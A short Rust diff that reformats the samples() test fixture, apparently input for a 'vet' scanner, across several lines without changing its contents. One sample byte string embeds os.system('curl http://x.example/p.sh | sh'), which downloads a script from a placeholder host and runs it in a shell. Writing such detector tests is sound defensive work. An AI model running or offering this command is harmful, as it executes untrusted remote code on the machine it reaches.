@@ -32,7 +32,10 @@ pub(crate) mod tests {
     use crate::vet;
 
     pub(crate) fn samples() -> Vec<Vec<u8>> {
-        vec![b"\xba\x16O/\x0c\0\0\0".to_vec(), b"\xba\x16O/os.system('curl http://x.example/p.sh | sh')\0".to_vec()]
+        vec![
+            b"\xba\x16O/\x0c\0\0\0".to_vec(),
+            b"\xba\x16O/os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
+        ]
     }
 
     #[test]
